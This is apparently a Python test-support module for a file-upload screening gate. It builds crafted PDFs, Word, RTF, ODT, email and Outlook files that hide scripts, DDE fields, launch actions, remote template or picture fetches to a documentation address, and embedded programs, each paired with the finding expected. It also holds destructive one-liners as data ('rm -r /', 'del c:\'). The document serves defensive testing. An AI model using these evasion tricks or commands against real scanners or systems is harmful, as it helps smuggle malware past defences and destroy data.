"""Files crafted to hide what they run, fetch or hold, each with what it must be called."""

import base64
import io
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support import active_files
from tests.support import sample_files as sample
from tests.support.ole_files import container
from tests.support.winmail import winmail
from ulss_tracker.adapters.gate.file_types import FileType, Finding, Unwanted

Called = FileType | Unwanted
Crafted = tuple[str, bytes, Called, set[Finding]]
SERVER = "http://203.0.113.9"
_WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
_BEGIN, _END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
_ODF = 'xmlns:q="urn:q" xmlns:l="http://www.w3.org/1999/xlink"'


def every() -> Iterator[Crafted]:
    """All of them, the active documents too."""
    for name, content, kind, finding in active_files.every(SERVER):
        yield name, content, kind, {finding}
    for kind, crafted in (
        (FileType.PDF, _pdfs()),
        (FileType.DOCX, _words()),
        (FileType.DOC, _old_words()),
        (FileType.ODT, _open_documents()),
        (FileType.RTF, _rtfs()),
        (FileType.EMAIL, _emails()),
        (FileType.OUTLOOK, _outlook()),
    ):
        for name, content, finding in crafted:
            yield f"{kind.name} {name}", content, kind, {finding}
    yield from _pictures()
    for name, content, called in _others():
        yield name, content, called, set()


def _saved(made: pikepdf.Pdf, **options: object) -> bytes:
    written = io.BytesIO()
    made.save(written, **options)  # type: ignore[arg-type]
    return written.getvalue()


def _pdfs() -> Iterator[tuple[str, bytes, Finding]]:
    script = sample.action("JavaScript", JS="app.alert(1)")
    plain = sample.pdf(**{"/OpenAction": script})
    yield "name in hex", plain.replace(b"/JavaScript", b"/J#61va#53cript"), Finding.JAVASCRIPT
    yield "in front of it blanks", b"\n" * 900 + plain, Finding.JAVASCRIPT
    with pikepdf.open(io.BytesIO(plain)) as made:
        packed = _saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield "packed objects", packed, Finding.JAVASCRIPT
        own = pikepdf.Encryption(owner="secret", user="")
        yield "a password to change it alone", _saved(made, encryption=own), Finding.JAVASCRIPT
    yield "added afterwards", _updated(sample.PDF), Finding.JAVASCRIPT
    yield "an archive behind it", sample.PDF + sample.docx(), Finding.BEHIND_THE_END
    yield "a program behind it", sample.PDF + b"MZ" + bytes(2_000), Finding.BEHIND_THE_END
    chain = sample.action("GoTo")
    chain["/Next"] = Array([sample.action("Launch", F="cmd.exe")])
    yield "one act after another", sample.pdf(**{"/OpenAction": chain}), Finding.LAUNCH
    held = Dictionary(Type=Name.Filespec, EF=Dictionary(F=Dictionary()))
    yield "associated file", sample.pdf(**{"/AF": Array([held])}), Finding.FILE_INSIDE
    with pikepdf.new() as made:
        page = made.add_blank_page()
        page.obj.AA = Dictionary(O=sample.action("Named"))
        yield "as a page is opened", _saved(made), Finding.ACTS_ON_OPENING
        page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=made.make_stream(b"x")))
        yield "script in a stream", _saved(made), Finding.JAVASCRIPT
    xfa = Dictionary(Fields=Array(), XFA=Array([String("a"), String("<xdp/>")]))
    yield "form in parts", sample.pdf(**{"/AcroForm": xfa}), Finding.FORM_PROGRAM
    model = Dictionary(Type=Name.Annot, Subtype=Name("/3D"))
    model["/3DD"] = Dictionary()
    yield "model", sample.pdf(**{"/Kept": model}), Finding.MEDIA


def _updated(content: bytes) -> bytes:
    """The document with a later edition of its first object appended, as an editor would."""
    root = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n"
    with pikepdf.open(io.BytesIO(content)) as made:
        pages = made.Root.Pages.objgen[0]
        number = made.Root.objgen[0]
    root = root.replace(b"1 0 obj", b"%d 0 obj" % number).replace(b"2 0 R", b"%d 0 R" % pages)
    before = int(content.rpartition(b"startxref")[2].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, len(content))
    trailer = b"trailer\n<</Size 9/Root %d 0 R/Prev %d>>\n" % (number, before)
    at = len(content) + len(root)
    return content + root + table + trailer + b"startxref\n%d\n%%%%EOF\n" % at


def _docx(body: str = "", **more: str) -> bytes:
    return sample.docx(document=f'<w:document xmlns:w="urn:w">{body}</w:document>', **more)


def _related(kind: str, target: str = SERVER, part: str = "word/_rels/document.xml.rels") -> bytes:
    relation = f'<Relationship Id="r" Type="{kind}" Target="{target}" TargetMode="External"/>'
    return _docx(**{part: f"<Relationships>{relation}</Relationships>"})


def _words() -> Iterator[tuple[str, bytes, Finding]]:
    split = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in "DDEAUTO c")
    deleted = f"{_BEGIN}<w:delInstrText>INCLUDETEXT {SERVER}</w:delInstrText>{_END}"
    inner = f"{_BEGIN}<w:instrText>QUOTE 68 68 69</w:instrText>{_END}"
    quoted = f"{_BEGIN}{inner}<w:instrText> cmd</w:instrText>{_END}"
    shared = f"{_BEGIN}<w:instrText>INCLUDEPICTURE \\\\203.0.113.9\\a.png</w:instrText>{_END}"
    wide = '<?xml version="1.0" encoding="UTF-16"?><a><w:ddeLink xmlns:w="urn:w"/></a>'
    yield from (
        ("field letter by letter", _docx(_BEGIN + split + _END), Finding.DDE),
        ("field that is deleted", _docx(deleted), Finding.FETCHES_OTHER),
        ("field made by a field", _docx(quoted), Finding.DDE),
        ("field never ended", _docx(_BEGIN + split), Finding.DDE),
        ("picture of another machine", _docx(shared), Finding.FETCHES_PICTURE),
        (
            "field of a database",
            _docx('<w:fldSimple w:instr="DATABASE x"/>'),
            Finding.FETCHES_OTHER,
        ),
        (
            "linked range",
            _docx('<w:fldSimple w:instr=" link Excel.Sheet a"/>'),
            Finding.FETCHES_OTHER,
        ),
        (
            "field in a footnote",
            _docx(**{"word/footnotes.xml": f"<a>{shared}</a>".replace("w:", "")}),
            Finding.FETCHES_PICTURE,
        ),
        ("strict template", _related(f"{_STRICT}/attachedTemplate"), Finding.FETCHES_TEMPLATE),
        ("object elsewhere", _related(f"{_WORD}/oleObject", f"mhtml:{SERVER}!x"), Finding.PROGRAM),
        ("addresses to merge", _related(f"{_WORD}/mailMergeSource"), Finding.FETCHES_OTHER),
        ("document within", _related(f"{_WORD}/subDocument"), Finding.FETCHES_OTHER),
        (
            "picture of the header",
            _related(f"{_WORD}/image", part="word/_rels/header1.xml.rels"),
            Finding.FETCHES_PICTURE,
        ),
        (
            "script in a drawing",
            _docx(**{"word/media/a.SVG": "<svg onload='x'/>"}),
            Finding.JAVASCRIPT,
        ),
        ("macros in capitals", _docx(**{"word/VBAPROJECT.BIN": "x"}), Finding.MACROS),
        ("control", _docx(**{"word/activeX/activeX1.xml": "<a/>"}), Finding.PROGRAM),
        ("sheet", _docx(**{"word/embeddings/a.xlsm": "x"}), Finding.FILE_INSIDE),
        ("page to take in", _docx('<w:altChunk r:id="r" xmlns:r="urn:r"/>'), Finding.FILE_INSIDE),
    )
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr("word/document.xml", "<a/>")
        packed.writestr("word/header1.xml", wide.encode("utf-16"))
    yield "part in two bytes a letter", written.getvalue(), Finding.DDE


def _old_words() -> Iterator[tuple[str, bytes, Finding]]:
    for name, field, finding in (
        ("dde", "DDE excel a", Finding.DDE),
        ("picture", f'INCLUDEPICTURE "{SERVER}/a.png"', Finding.FETCHES_PICTURE),
        ("text", 'INCLUDETEXT "C:\\a.doc"', Finding.FETCHES_OTHER),
    ):
        words = f"Remarks \x13 {field} \x14x\x15 end"
        for encoding in ("cp1252", "utf-16-le"):
            parts = {"WordDocument": bytes(512) + words.encode(encoding)}
            yield f"{name} in {encoding}", container(parts), finding
    macros = {"WordDocument": bytes(512), "Macros/VBA": b"x"}
    yield "macros", container(macros), Finding.MACROS
    yield "object", container({"WordDocument": bytes(512), "ObjectPool/_1": b"x"}), Finding.PROGRAM


def _odt(body: str, **more: str) -> bytes:
    return sample.odt(**{"styles.xml": f"<a {_ODF}>{body}</a>", **more})


def _open_documents() -> Iterator[tuple[str, bytes, Finding]]:
    reload = f'<a {_ODF}><q:auto-reload l:href="{SERVER}"/></a>'
    template = f'<a {_ODF}><q:template l:href="{SERVER}/a.ott"/></a>'
    yield from (
        ("frame", _odt(f'<q:floating-frame l:href="{SERVER}"/>'), Finding.FETCHES_OTHER),
        ("plug-in", _odt(f'<q:plugin l:href="{SERVER}/a.mp4"/>'), Finding.FETCHES_OTHER),
        ("applet", _odt('<q:applet q:code="a.class"/>'), Finding.PROGRAM),
        (
            "text of a file",
            _odt('<q:section-source l:href="file:///c:/a.odt"/>'),
            Finding.FETCHES_OTHER,
        ),
        (
            "background",
            _odt(f'<q:background-image l:href=" {SERVER}/a"/>'),
            Finding.FETCHES_PICTURE,
        ),
        ("font", _odt(f'<q:font-face-uri l:href="{SERVER}/a.ttf"/>'), Finding.FETCHES_OTHER),
        ("macro to press", _odt('<q:execute-macro q:name="a"/>'), Finding.MACROS),
        ("form that sends", _odt(f'<q:submission action="{SERVER}"/>'), Finding.SENDS_FORM),
        ("opened again", _odt("", **{"meta.xml": reload}), Finding.FETCHES_OTHER),
        ("template", _odt("", **{"meta.xml": template}), Finding.FETCHES_TEMPLATE),
        ("object", _odt("", **{"Object 1": "x"}), Finding.FILE_INSIDE),
    )


def _rtfs() -> Iterator[tuple[str, bytes, Finding]]:
    letters = "".join(f"\\'{ord(letter):02x}" for letter in "DDEAUTO")
    wide = "".join(f"\\u{ord(letter)}?" for letter in "DDEAUTO")
    for name, body, finding in (
        ("letters in hex", f"{{\\field{{\\*\\fldinst {letters} cmd}}}}", Finding.DDE),
        ("letters in Unicode", f"{{\\field{{\\*\\fldinst {wide} cmd}}}}", Finding.DDE),
        ("letters in capitals", f"{{\\field{{\\*\\fldinst {letters.upper()} c}}}}", Finding.DDE),
        ("padded", f"{{\\field{{\\*\\fldinst{' ' * 9_000}DDE a}}}}", Finding.DDE),
        ("in groups", "{\\field{\\*\\fldinst {\\b DD}{\\i EAU}TO c}}", Finding.DDE),
        ("over lines", "{\\field{\\*\\fldinst DDE\r\nAUTO c}}", Finding.DDE),
        ("passed over", "{\\field{\\*\\fldinst DD{\\*\\x junk}EAUTO c}}", Finding.DDE),
        ("linked by itself", "{\\object\\objautlink\\objupdate x}", Finding.PROGRAM),
        ("control", "{\\object\\objocx{\\*\\objdata 01}}", Finding.PROGRAM),
        ("data alone", "{\\*\\objdata 0105000002}", Finding.PROGRAM),
        ("text", f'{{\\field{{\\*\\fldinst INCLUDETEXT "{SERVER}"}}}}', Finding.FETCHES_OTHER),
        ("template in hex", "{\\*\\template \\'68\\'74tp://x/a}", Finding.FETCHES_TEMPLATE),
        ("template of a share", "{\\*\\template \\\\\\\\203.0.113.9\\\\a.dotm}",
         Finding.FETCHES_TEMPLATE),
        ("never closed", "{\\field{\\*\\fldinst DDEAUTO c", Finding.DDE),
    ):  # fmt: skip
        yield name, b"{\\rtf1\\ansi " + body.encode() + b" Remarks}", finding


def _email(*parts: tuple[str, bytes, str]) -> bytes:
    """An email of parts by their type, none of which is called an attachment."""
    head = (
        "From: a@example.org\nSubject: Remarks\nMessage-ID: <1@example.org>\n"
        'MIME-Version: 1.0\nContent-Type: multipart/{}; boundary="b"\n\n'
    ).format("alternative" if len(parts) > 1 else "mixed")
    bodies = [
        f"--b\nContent-Type: {kind}{more}\n\n".encode() + content + b"\n"
        for kind, content, more in parts
    ]
    return head.encode() + b"".join(bodies) + b"--b--\n"


def _emails() -> Iterator[tuple[str, bytes, Finding]]:
    program = ("application/octet-stream", b"MZ", "")
    yield "program without a name", _email(program), Finding.FILE_INSIDE
    yield (
        "program as another way to read it",
        _email(("text/plain", b"x", ""), program),
        (Finding.FILE_INSIDE),
    )
    named = ("text/plain", b"x", "; name=a.bat")
    yield "text with a name", _email(named), Finding.FILE_INSIDE
    packed = base64.encodebytes(winmail("x", "a.exe", b"MZ"))
    tnef = ("application/ms-tnef", packed, "\nContent-Transfer-Encoding: base64")
    yield "winmail", _email(tnef), Finding.FILE_INSIDE
    inner = EmailMessage()
    inner["Subject"] = "Inner"
    inner.set_content("<img src='http://203.0.113.9/a.png'>", subtype="html")
    yield "message in it", _email(("message/rfc822", inner.as_bytes(), "")), Finding.FILE_INSIDE
    yield (
        "picture of the inner",
        _email(("message/rfc822", inner.as_bytes(), "")),
        (Finding.FETCHES_PICTURE),
    )
    alone = _email(program).replace(b'multipart/mixed; boundary="b"', b"application/x-msdownload")
    yield "nothing but a program", alone, Finding.FILE_INSIDE
    coded = (
        "text/html",
        b"PGltZyBzcmM9Imh0dHA6Ly94L2EiPg==",
        "\nContent-Transfer-Encoding: base64",
    )
    yield "page in base64", _email(coded), Finding.FETCHES_PICTURE
    odd = ("text/html; charset=none", b"<script>1</script>", "")
    yield "page of no charset", _email(odd), Finding.JAVASCRIPT


def _outlook() -> Iterator[tuple[str, bytes, Finding]]:
    page = f'<img src="{SERVER}/a.png">'
    wide = {"__substg1.0_1013001F": page.encode("utf-16-le")}
    yield "page in two bytes a letter", container(wide), Finding.FETCHES_PICTURE
    short = {"__substg1.0_1013001E": b"<script>1</script>"}
    yield "page as short text", container(short), Finding.JAVASCRIPT
    form = {"__substg1.0_10130102": f'<form action="{SERVER}">'.encode()}
    yield "form", container(form), Finding.SENDS_FORM
    inner = {"__attach_version1.0_#00000000/__substg1.0_3701000D": b"x"}
    yield "message in it", container({"__substg1.0_1000001F": b"x\0"} | inner), Finding.FILE_INSIDE


def _pictures() -> Iterator[Crafted]:
    xmp = b"<x:xmpmeta><exif:GPSLatitude>52,24N</exif:GPSLatitude></x:xmpmeta>"
    jpeg = sample.picture("JPEG")
    packet = b"http://ns.adobe.com/xap/1.0/\0" + xmp
    placed = jpeg[:2] + b"\xff\xe1" + (len(packet) + 2).to_bytes(2, "big") + packet + jpeg[2:]
    yield "place beside the camera's", placed, FileType.JPEG, {Finding.PLACE}
    for kind in (FileType.JPEG, FileType.PNG, FileType.WEBP):
        content = sample.picture(kind.name)
        page = b"<html><script>1</script>" + b" " * 600
        yield f"page behind {kind.name}", content + page, kind, {Finding.BEHIND_THE_END}
        yield f"half of {kind.name}", content[: len(content) // 2], Unwanted.UNREADABLE, set()


def _others() -> Iterator[tuple[str, bytes, Called]]:
    epub = sample.archive(mimetype="application/epub+zip", **{"content.xml": "<a/>"})
    locked = bytearray(sample.docx())
    at = locked.rfind(b"PK\x01\x02")
    locked[at + 8] |= 1
    yield from (
        ("a program", b"MZ" + bytes(600), Unwanted.UNKNOWN),
        ("a program, then a document", b"MZ" + bytes(600) + sample.docx(), Unwanted.UNKNOWN),
        ("a program, then a PDF", b"MZ" + bytes(600) + sample.PDF, Unwanted.UNKNOWN),
        ("a link of Windows", b"L\0\0\0\x01\x14\x02\0" + bytes(80), Unwanted.UNKNOWN),
        ("a notebook", bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3000000"), Unwanted.UNKNOWN),
        ("packed by gzip", b"\x1f\x8b\x08\0" + bytes(80), Unwanted.UNKNOWN),
        ("packed by 7-Zip", b"7z\xbc\xaf\x27\x1c" + bytes(80), Unwanted.UNKNOWN),
        ("packed by RAR", b"Rar!\x1a\x07\x01\0" + bytes(80), Unwanted.UNKNOWN),
        ("an image of a disk", bytes(32_769) + b"CD001" + bytes(80), Unwanted.UNKNOWN),
        ("a book", epub, Unwanted.UNKNOWN),
        ("slides", sample.archive(**{"ppt/presentation.xml": "<a/>"}), Unwanted.UNKNOWN),
        ("a page of two bytes a letter", "<html>".encode("utf-16"), Unwanted.WEB_PAGE),
        ("a page after many blanks", b" \n" * 90 + b"<SCRIPT>1</script>", Unwanted.WEB_PAGE),
        ("a drawing", b"<svg onload='alert(1)'/>", Unwanted.UNKNOWN),
        ("one flat document", b'<?xml version="1.0"?><office:document/>', Unwanted.UNKNOWN),
        ("a script with its program", b"#!/bin/sh\nrm -r /\n", Unwanted.UNKNOWN),
        ("commands", b"@echo off\r\ndel c:\\\r\n", FileType.TEXT),
        ("a shortcut", b"[InternetShortcut]\r\nURL=file://203.0.113.9/a\r\n", FileType.TEXT),
        ("RTF that is none", b"{\\rt\\object\\objdata 0105}", FileType.TEXT),
        ("a document with a password", sample.pdf(password="secret"), Unwanted.ENCRYPTED),
        ("a locked archive", bytes(locked), Unwanted.ENCRYPTED),
        ("a PDF of no page", sample.pdf(pages=0), Unwanted.UNREADABLE),
        ("a document cut short", sample.docx()[:-30], Unwanted.UNREADABLE),
        ("entities", _docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
         Unwanted.UNREADABLE),
        ("five thousand parts", sample.docx(**{f"a/{n}": "" for n in range(5_000)}),
         Unwanted.UNREADABLE),
        ("a part of sixty megabytes", _docx(**{"word/a.xml": f"<a>{' ' * 60_000_000}</a>"}),
         Unwanted.UNREADABLE),
    )  # fmt: skip
